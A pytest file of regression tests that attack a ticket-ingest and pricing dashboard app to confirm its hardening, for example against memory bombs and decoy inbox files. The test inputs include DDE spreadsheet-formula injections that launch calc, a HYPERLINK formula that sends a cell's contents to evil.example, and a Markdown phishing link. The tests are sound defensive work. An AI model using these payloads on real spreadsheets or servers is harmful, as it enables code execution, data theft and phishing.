"""Issue #12, a fresh round of the same attacks (round 3) against the hardened code.

Each test here is an attack that still broke something when it was written (each failed on
that code; none is marked xfail). Its docstring says what is expected instead. What could
exhaust memory runs in a child process under ``RLIMIT_AS`` (3 GiB) and a timeout, so a
regression fails the test instead of taking the machine down.
"""

from __future__ import annotations

import csv
import gzip
import hashlib
import io
import json
import textwrap
from collections.abc import Iterator
from pathlib import Path

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from data.export import neutralise_cell, to_csv_bytes
from data.inbox import import_inbox
from data.ingest import ingest_files
from data.paths import inbox_dir, staging_dir_of
from data.store import Store
from tests.dashboard.conftest import app_db  # noqa: F401  (the fixture)
from tests.reliability.conftest import assert_no_traceback
from tests.reliability.test_inbox_hardening import _hand_made, _staged_table
from tests.reliability.test_links_and_exports import SOMETHING_WRONG, _open, _texts
from tests.reliability.test_reading_limits import Measured, run_measured

#: Address-space cap of a child that reads a bomb (the machine must survive a regression).
CHILD_AS = 3 << 30
#: Issue #12's target: peak memory of any accepted or rejected upload at default limits.
TARGET_PEAK_MIB = 1024


def _ingest_capped(tmp_path: Path, upload: Path, timeout: float = 180) -> Measured:
    """``python -m data ingest UPLOAD`` into a fresh database, under ``RLIMIT_AS`` =
    :data:`CHILD_AS`, measured (peak RSS = the child's own VmHWM)."""
    code = textwrap.dedent(f"""
        import resource, runpy, sys
        resource.setrlimit(resource.RLIMIT_AS, ({CHILD_AS}, {CHILD_AS}))
        sys.argv = ["data", "ingest", "--db", {str(tmp_path / "db.duckdb")!r}, {str(upload)!r}]
        runpy.run_module("data", run_name="__main__", alter_sys=True)
    """)
    return run_measured(["-c", code], tmp_path, timeout=timeout)


# -- (b) reading uploads -----------------------------------------------------------------


def test_jsonl_whose_lines_each_bring_new_keys_is_refused_by_the_column_limit(
    tmp_path: Path,
) -> None:
    """Expected: a JSONL file whose records *together* have more keys than
    ``PRICEWAR_MAX_UPLOAD_COLUMNS`` (500) is refused with one line naming that limit, exit 2,
    before any frame is built, with bounded memory.

    Broke: the limit is checked per record only (``data.readers.jsonl_rows.jsonl_chunks``), so 50,000
    lines of ``{"text": "t", "k<i>": ""}`` (1.9 MB, 100 KB gzipped) become one chunk of
    50,000 rows × 50,001 columns: ``pd.DataFrame.from_records`` asks for 18.6 GiB, and
    ``python -m data ingest`` ends with a numpy ``_ArrayMemoryError`` traceback, exit 1 (2,000
    lines × 400 new keys each, 1.9 MB gzipped: 11.9 GiB asked for). Without a memory cap the
    server would try to hold it.
    """
    upload = tmp_path / "spread_keys.jsonl.gz"
    with gzip.open(upload, "wt", encoding="utf-8") as f:
        for i in range(50_000):
            f.write(json.dumps({"text": "t", f"k{i}": ""}) + "\n")
    m = _ingest_capped(tmp_path, upload)
    out = m.stdout + m.stderr
    print(f"\nFIGURE jsonl_spread_keys: rc {m.returncode}, {m.peak_mib:.0f} MiB, {m.seconds:.1f} s")
    assert_no_traceback(out)
    assert m.returncode == 2, out[-2000:]
    assert "PRICEWAR_MAX_UPLOAD_COLUMNS" in out, out[-2000:]
    assert m.peak_mib < TARGET_PEAK_MIB


def _nested_parquet(path: Path, rows: int, chars: int) -> Path:
    """A valid ``text`` column plus an extra ``junk`` column of type list<string> holding one
    ``chars``-long string per row, dictionary-encoded: a few KB of file."""
    block = 1_000
    junk = pa.ListArray.from_arrays(
        pa.array(range(block + 1), pa.int32()), pa.array(["x" * chars] * block)
    )
    table = pa.table({"text": [f"ticket {i}" for i in range(block)], "junk": junk})
    with pq.ParquetWriter(path, table.schema, compression="zstd", use_dictionary=True) as w:
        for _ in range(rows // block):
            w.write_table(table)
    return path


def test_a_nested_parquet_column_cannot_expand_past_the_memory_target(tmp_path: Path) -> None:
    """Expected: a 110 KB Parquet file whose extra list<string> column decodes to 750 MB (50,000
    rows × 15,000 characters; under the 1 GiB decoded-bytes limit) is either imported (the
    column is not one the app uses) or refused naming a limit, with a peak under 1 GiB;
    never "the Parquet data is damaged".

    Broke: ``data.readers.parquet_rows.parquet_chunks`` sizes its batches from the metadata's
    uncompressed sizes, which do not see dictionary-encoded strings inside a *nested* column
    (only top-level text columns are read as dictionaries and counted before decoding), and
    reads every column although ingest uses only the mapped ones. One batch of 50,000 rows
    is decoded at once: under a 3 GiB address-space cap the child fails with "row 1: the
    Parquet data is damaged (realloc of size 985661440 failed)" at ~0.9 GiB RSS (a false
    reason); without the cap it needs over 3 GB. 20,000 such rows (7.7 KB file) are accepted
    at a 970 MiB peak. Fix: read only the columns ``map_columns`` picks
    (``iter_batches(columns=…)``), and refuse or count nested types before decoding.
    """
    upload = _nested_parquet(tmp_path / "nested.parquet", 50_000, 15_000)
    assert upload.stat().st_size < 200_000
    m = _ingest_capped(tmp_path, upload)
    out = m.stdout + m.stderr
    print(
        f"\nFIGURE nested_parquet_750mb: rc {m.returncode}, {m.peak_mib:.0f} MiB, "
        f"{m.seconds:.1f} s, {out.strip().splitlines()[-1:]}"
    )
    assert_no_traceback(out)
    assert "damaged" not in out, out[-2000:]
    assert m.returncode in (0, 2), out[-2000:]
    if m.returncode == 2:
        assert "PRICEWAR_MAX_" in out, out[-2000:]
    assert m.peak_mib < TARGET_PEAK_MIB, f"{m.peak_mib:.0f} MiB"


# -- (a) the inbox -----------------------------------------------------------------------


@pytest.fixture
def store(tmp_path: Path) -> Iterator[Store]:
    """An empty writable store whose inbox exists."""
    s = Store.open(tmp_path / "app.duckdb")
    inbox_dir(s.path).mkdir(exist_ok=True)
    try:
        yield s
    finally:
        s.close()


def test_a_handed_file_cannot_claim_the_hash_of_a_file_not_yet_uploaded(
    store: Store, tmp_path: Path
) -> None:
    """Expected: a file uploaded directly is imported even when a hand-made inbox entry
    earlier *claimed* its SHA-256 (anyone who can write beside the database can drop one).

    Broke: ``data.inbox._import_handed`` takes the ``pricewar.file_hash`` the entry claims
    (only its form is checked, ``_claims``) and ``commit_staged`` records it in
    ``ingested_files``. A one-row decoy claiming the hash of a real export that someone will
    upload later makes that upload "unchanged, already ingested" (``ingest_one`` →
    ``already_ingested``, then ``_known_file``): its 3 tickets are never stored, silently.
    Fix: record a handed file under a hash the app computes itself (of the staged rows, or
    of the entry's bytes), or keep claimed hashes apart from those of direct uploads; never
    let a claim suppress a direct upload.
    """
    victim = tmp_path / "march_export.csv"
    victim.write_text("text\nrefund please\nthe invoice is wrong\nlogin fails\n", encoding="utf-8")
    digest = hashlib.sha256(victim.read_bytes()).hexdigest()
    decoy = _hand_made(
        inbox_dir(store.path) / "decoy.parquet", _staged_table(["hello"]), name="decoy.csv"
    )
    meta = pq.ParquetFile(decoy).schema_arrow.metadata
    table = pq.read_table(decoy).replace_schema_metadata(
        {**meta, b"pricewar.file_hash": digest.encode()}
    )
    pq.write_table(table, decoy)
    import_inbox(store)
    [report] = ingest_files(store, [victim])
    stored = {text for (text,) in store.fetchall("SELECT text FROM tickets")}
    assert not report.already_ingested, report.message
    assert {"refund please", "the invoice is wrong", "login fails"} <= stored, stored


# -- (c) links and numbers ---------------------------------------------------------------


PRICING_LINKS: dict[str, tuple[dict[str, str], str]] = {
    "reference_price_1e-300": (
        {"s_segments": json.dumps([["smb", 1e-300, 1000, -1.6, -1.9, -1.3]])},
        "reference\\_price",
    ),
    "elasticity_-1e12": (
        {"s_segments": json.dumps([["smb", 1.0, 1000, -1e12, -1e12, -1e12]])},
        "elasticity",
    ),
}


@pytest.mark.usefixtures("app_db")
@pytest.mark.parametrize("case", list(PRICING_LINKS))
def test_a_link_with_extreme_segment_values_is_a_note_on_pricing(case: str) -> None:
    """Expected: ``?s_segments=[["smb",1e-300,1000,-1.6,-1.9,-1.3]]`` (or an elasticity of
    -1e12, within the 1e12 magnitude cap) on Pricing what-if is a message naming the field,
    not the generic "Something went wrong".

    Broke: with reference price 1e-300 the volume at every price underflows to 0, and
    ``analytics.evaluate.evaluate_scenario`` (``c = float(model.unit_cost(p))``) divides by
    it in ``analytics.business.DemandModel.unit_cost``: ZeroDivisionError. With elasticity
    -1e12 the pressure-shifted elasticity (-1.1e12) fails ``checked_number`` in
    ``analytics.business`` with a plain ``ValueError``. ``dashboard.ui.friendly_message``
    shows only ``DataError`` messages, so both are "Something went wrong while preparing
    this page". Issue #16 fixed reference volume 0, not these. Fix: bound
    ``reference_price`` below (e.g. >= 1e-6) and elasticities to a plausible range (e.g.
    -100…0) in ``DemandSegment.__post_init__``; turn ``ValueError`` from the model
    (``scenario_model``) into ``ScenarioError``.
    """
    query, named = PRICING_LINKS[case]
    at = _open("views/pricing.py", query)
    texts = _texts(at)
    assert not at.exception, [e.value for e in at.exception]
    assert not any(SOMETHING_WRONG in t for t in texts), texts
    assert any(named in t for t in texts), texts


@pytest.mark.usefixtures("app_db")
def test_a_link_with_a_tiny_utilisation_is_a_note_on_price_war() -> None:
    """Expected: ``?s_utilisation=1e-300`` on Price war says which input is out of range
    (the page already knows: "segment 'example': unit_cost = 9.95e+298 is out of range"),
    not the generic "Something went wrong".

    Broke: ``analytics.war.price_war_market`` → ``analytics.evaluate.scenario_model`` →
    ``analytics.business.SegmentCurve.__post_init__`` raises a plain ``ValueError`` from
    ``checked_number``; ``dashboard.ui.friendly_message`` shows only ``DataError`` messages,
    so the page shows "Something went wrong". (Pricing clamps the widget and shows the page.)
    Fix: bound ``utilisation`` (and the other divisors: tokens per second) below in
    ``Scenario.__post_init__``, and raise ``ScenarioError`` from ``scenario_model``.
    """
    at = _open("views/price_war.py", {"s_utilisation": "1e-300"})
    texts = _texts(at)
    assert not at.exception, [e.value for e in at.exception]
    assert not any(SOMETHING_WRONG in t for t in texts), texts
    assert any("utilisation" in t or "unit\\_cost" in t for t in texts), texts


# -- (d) exports -------------------------------------------------------------------------


DDE_AFTER_BREAK = [
    "Refund please\r+ cmd|' /C calc'!A0",
    "Refund please\n- 1+cmd|' /C calc'!A0",
    'Refund please\r\n+ HYPERLINK("http://evil.example/?"&A1,"x")',
]


@pytest.mark.parametrize("text", DDE_AFTER_BREAK)
def test_a_list_item_that_calls_a_program_is_neutralised(text: str) -> None:
    """Expected: a line after a line break that a spreadsheet would evaluate as a formula
    calling a program or a function gets the apostrophe, also when it looks like a list item
    ("+ cmd|…", "- 1+cmd|…"): split at the bare CR/LF (item 17's reader), no cell may start
    with ``+``/``-`` followed by a DDE call or a function.

    Broke: ``data.export._BULLET`` (``[-+]+ \\S``) exempts every line that starts with a sign
    and a space, whatever follows, so item 17's attack with one space added
    (``"Refund please\\r+ cmd|' /C calc'!A0"``) is exported as is: a reader that splits at
    the bare CR gets the cell ``+ cmd|' /C calc'!A0``, which spreadsheets read as a formula
    (spaces after the sign are allowed). Fix: exempt a list item only when the rest holds
    no formula syntax (no ``|``, ``(``, ``!``, ``&``), e.g. ``[-+]+ [^|(!&=@]*$``.
    """
    cell = neutralise_cell(text)
    data = to_csv_bytes(pd.DataFrame({"text": [text]})).decode("utf-8")
    for piece in data.replace("\r\n", "\n").replace("\r", "\n").split("\n"):
        for value in next(csv.reader(io.StringIO(piece)), []) or [piece]:
            assert not value.lstrip('"').startswith(("+ cmd", "- 1+cmd", "+ HYPERLINK")), data
    assert cell != text


# -- (a)/(b) names and limits from the environment ---------------------------------------


def test_a_staging_file_named_with_a_superscript_digit_does_not_stop_the_store_opening(
    tmp_path: Path,
) -> None:
    """Expected: a file ``ingest-²-x.parquet`` in ``<db>.staging/`` (writable by whoever can
    write beside the database, like the inbox) is swept, or left, when a store opens for
    writing; the store opens.

    Broke: ``data.paths.sweep_staging`` tests the writer's id with ``str.isdigit()``, which
    is true for "²" (and other Unicode digits) that ``int()`` refuses: ``ValueError: invalid
    literal for int() with base 10: '²'`` out of ``Store.__init__`` on every writable open,
    so the dashboard cannot start and ``python -m data ingest`` ends with a traceback (exit
    1) until someone finds the file. (The DuckDB connection opened just before is not closed
    on that path either.) Fix: ``pid_text.isascii() and pid_text.isdigit()`` (or ``try:
    int()``), and close the connection on any failure after ``connect``.
    """
    db = tmp_path / "app.duckdb"
    Store.open(db).close()
    staging = staging_dir_of(db)
    staging.mkdir(exist_ok=True)
    (staging / "ingest-\u00b2-x.parquet").write_bytes(b"junk")
    store = Store.open(db)
    try:
        assert store.scalar("SELECT count(*) FROM tickets") == 0
    finally:
        store.close()


@pytest.mark.parametrize("value", ["\u00b2", "\u2463"])  # "²", "④": str.isdigit() is True
def test_a_unicode_digit_in_a_limit_variable_is_a_config_error(value: str) -> None:
    """Expected: ``PRICEWAR_MAX_UPLOAD_ROWS=²`` (or ``PRICEWAR_TAG_BATCH=²``) is a
    ``ConfigError`` naming the variable: one line from the CLI (exit 2), a message on the
    page.

    Broke: ``data.limits.limits_from_env`` and ``dashboard.job_settings.tag_batch_from_env`` check
    ``str.isdigit()``, true for "²" and "④", then ``int()`` raises ``ValueError``:
    ``python -m data ingest`` prints a traceback and exits 1. Fix: accept ASCII digits only
    (``text.isascii() and text.isdigit()``) or catch the ``ValueError``.
    """
    from dashboard.jobs import tag_batch_from_env
    from data.errors import ConfigError
    from data.limits import limits_from_env

    with pytest.raises(ConfigError, match="PRICEWAR_MAX_UPLOAD_ROWS"):
        limits_from_env(environ={"PRICEWAR_MAX_UPLOAD_ROWS": value})
    with pytest.raises(ConfigError, match="PRICEWAR_TAG_BATCH"):
        tag_batch_from_env({"PRICEWAR_TAG_BATCH": value})


# -- (b) odd values: a located problem (or the value as text), never an exception ---------


def _parquet_bytes(table: pa.Table) -> bytes:
    out = io.BytesIO()
    pq.write_table(table, out)
    return out.getvalue()


def _raw_string_array(data: bytes) -> pa.Array:
    """A one-value string array holding ``data`` as is (Parquet does not check UTF-8)."""
    offsets = (0).to_bytes(4, "little") + len(data).to_bytes(4, "little")
    return pa.Array.from_buffers(pa.string(), 1, [None, pa.py_buffer(offsets), pa.py_buffer(data)])


ODD_VALUES: dict[str, bytes] = {
    # json.loads raises a plain ValueError for integers over 4,300 digits
    "jsonl_5000_digit_text.jsonl": b'{"text": ' + b"9" * 5_000 + b"}\n",
    "jsonl_4301_digit_channel.jsonl": b'{"text": "a", "channel": ' + b"1" * 4_301 + b"}\n",
    # a JSON escape of a lone surrogate decodes to a str that UTF-8 cannot encode
    "jsonl_lone_surrogate_text.jsonl": b'{"text": "\\ud800 refund"}\n',
    "jsonl_lone_surrogate_key.jsonl": b'{"text": "a", "\\ud800": "x"}\n',
    "jsonl_lone_surrogate_channel.jsonl": b'{"text": "a", "channel": "\\udfff"}\n',
    # a Parquet string column is not checked for UTF-8 by its writer
    "parquet_invalid_utf8.parquet": _parquet_bytes(
        pa.table({"text": _raw_string_array(b"\xff\xfe")})
    ),
    "parquet_encoded_surrogate.parquet": _parquet_bytes(
        pa.table({"text": _raw_string_array(b"\xed\xa0\x80")})
    ),
}


@pytest.mark.parametrize("name", list(ODD_VALUES))
def test_odd_values_are_located_problems_not_exceptions(
    store: Store, tmp_path: Path, name: str
) -> None:
    """Expected: each file is imported with the value as text, or refused as a file problem
    naming the row (one line from the CLI, exit 2; a rejection box in the app), as CSV
    already does for the same bytes ("not valid UTF-8 (byte 0xed)"); the store unchanged.

    Broke: ``data.readers.jsonl_rows.jsonl_chunks`` catches only ``JSONDecodeError`` and
    ``RecursionError`` from ``json.loads``: a 4,301+-digit integer raises ``ValueError``
    ("Exceeds the limit (4300 digits) …"); ``"\\ud800"`` parses to a lone surrogate that
    ``data.normalise._text_array`` cannot convert (``UnicodeEncodeError``). Parquet text is not
    checked for UTF-8 (``_parquet_chunks``): ``\\xff\\xfe`` raises ``ArrowInvalid: Invalid
    UTF8 sequence``; an encoded surrogate (``\\xed\\xa0\\x80``) passes validation and
    staging, then DuckDB's insert fails and the CLI blames the database ("the database …
    failed: Invalid Input Error: Invalid string encoding …; check the file with 'python -m
    data stats'"). The others are a traceback and exit 1 from ``python -m data ingest`` and
    "Something went wrong" on the upload page (``ingest_one`` catches only
    ``IngestError``/``OSError``). Fix: catch ``ValueError`` around ``json.loads``; reject
    strings with surrogates (``str.encode('utf-8')`` in a try, per record); validate Parquet
    text as UTF-8 (cast to binary, then back with ``_check_text_batch`` as for CSV) and report
    by row and column.
    """
    upload = tmp_path / name
    upload.write_bytes(ODD_VALUES[name])
    [report] = ingest_files(store, [upload])
    assert report.status in ("imported", "rejected"), report
    if report.status == "rejected":
        assert report.problems and len(report.message) < 2_000, report.message
        assert store.scalar("SELECT count(*) FROM tickets") == 0


def test_a_parquet_date_beyond_the_calendar_is_refused_by_column_not_as_damaged() -> None:
    """Expected: a Parquet ``date32`` column ``created_at`` holding 2**31-1 days (year
    5,881,580) is refused like any date outside 1990–2100, naming row 1 and the column.

    Broke: the reader's ``to_pandas`` raises "year 5881580 is out of range", which
    ``data.readers.parquet_rows.parquet_chunks`` reports as "row 2: the Parquet data is damaged" (a
    valid file; a row that does not exist; no column). Fix: read date/timestamp columns
    without converting them to Python objects (``to_pandas(date_as_object=False)`` or cast
    to ``timestamp[us]`` with a range check before), then let ``_dates_in_range`` say it.
    """
    from data.errors import IngestError
    from data.staging import stage_file

    data = _parquet_bytes(
        pa.table({"text": ["a"], "created_at": pa.array([2**31 - 1], pa.date32())})
    )
    with pytest.raises(IngestError) as caught:
        stage_file(("dates.parquet", io.BytesIO(data)), name="dates.parquet")
    message = str(caught.value)
    assert "damaged" not in message, message
    assert "created_at" in message, message


# -- (d) Markdown in a tooltip ----------------------------------------------------------

EVIL_RIVAL = "![x](https://evil.example/t.png)[Sign in again](https://evil.example/login)"


@pytest.mark.usefixtures("app_db")
def test_a_rival_name_from_a_link_is_shown_as_text_in_the_price_war_tooltip() -> None:
    """Expected: a competitor name taken from a link (``s_competitors``) is shown literally
    everywhere on Price war, tooltips included: no Markdown link or image made of it.

    Broke: ``dashboard/views/price_war.py`` builds the help of the "Deepest cut we absorb"
    metric as ``f"The largest cut of {cutter}'s list price …"`` without ``ui.md_text``
    (the headline above it escapes the same name). Streamlit renders ``help`` as Markdown,
    so a shared link whose rival is named ``![x](https://evil.example/t.png)[Sign in
    again](https://evil.example/login)`` shows a phishing link (and loads a remote image)
    in the tooltip. Fix: ``{ui.md_text(cutter)}``.
    """
    competitors = json.dumps([[EVIL_RIVAL, 1.0, 0.05], ["other", 1.2, 0.05]])
    at = _open("views/price_war.py", {"s_competitors": competitors, "s_cut_competitor": ""})
    assert not at.exception, [e.value for e in at.exception]
    helps = [str(m.proto.help) for m in at.metric if "largest cut" in str(m.proto.help)]
    assert helps, [m.label for m in at.metric]
    for text in helps:
        assert "](https://evil.example" not in text, text


# -- (a) entity shards handed over through the inbox --------------------------------------

SHARD_VALUES: dict[str, dict[str, object]] = {
    "start_negative": {"start": -5},
    "end_past_the_text": {"end": 2**31 - 1},
    "text_5mb": {"text": "E" * 5_000_000},
    "label_100k": {"label": "<script>" + "L" * 100_000},
    "score_nan": {"score": float("nan")},
}


@pytest.mark.parametrize("case", list(SHARD_VALUES))
def test_entity_shard_values_are_checked_before_they_are_loaded(
    store: Store, tmp_path: Path, case: str
) -> None:
    """Expected: an entity-shard folder (named by a ``*.shards.json`` request in the inbox,
    which anyone who can write beside the database can drop, or given to ``data ingest``)
    whose entity rows are impossible is refused with an ``EntityShardError`` naming the
    file and column; nothing is loaded.

    Broke: ``data.shard_loading._check_values`` checks only NULLs and the model id, so one
    shard loads an entity with start -5, end 2,147,483,647 (past a 13-character ticket), a
    5 MB entity text, a 100,008-character label starting ``<script>``, a NaN score (and a
    50,000-character model id): the round-2 promise "hand-made Parquet in the inbox is
    re-validated" holds for tickets, not for entities. Fix: in ``_check_values`` (one
    query joined to ``tickets``) require ``0 <= start < end <= strlen(ticket text)``,
    ``text`` = the ticket's substring (or at most N characters), ``label`` among the
    tagger's labels (or short, printable), ``score`` finite in [0, 1], and a model id of at
    most a few hundred characters; refuse the folder otherwise.
    """
    from data import entity_shards as es
    from data.errors import DataError
    from data.shard_loading import load_entity_shards

    source = tmp_path / "t.csv"
    source.write_text("text\nrefund please\n", encoding="utf-8")
    ingest_files(store, [source])
    key = store.scalar("SELECT ticket_key FROM tickets")
    folder = tmp_path / "shards"
    es.check_folder_model(folder, "model-a")
    row: dict[str, object] = {
        "ticket_key": key,
        "model_id": "model-a",
        "start": 0,
        "end": 6,
        "label": "ORG",
        "text": "refund",
        "score": 0.9,
    }
    row.update(SHARD_VALUES[case])
    entities = pa.Table.from_pylist([row], schema=es.ENTITY_SCHEMA)
    tagged = pa.Table.from_pylist(
        [{"ticket_key": key, "row": 1, "source_id": None}], schema=es.TAGGED_SCHEMA
    )
    es.write_shard(folder, "x", entities, tagged, {"model_id": "model-a"})
    with pytest.raises(DataError):
        load_entity_shards(store, folder)
    assert store.scalar("SELECT count(*) FROM entities") == 0
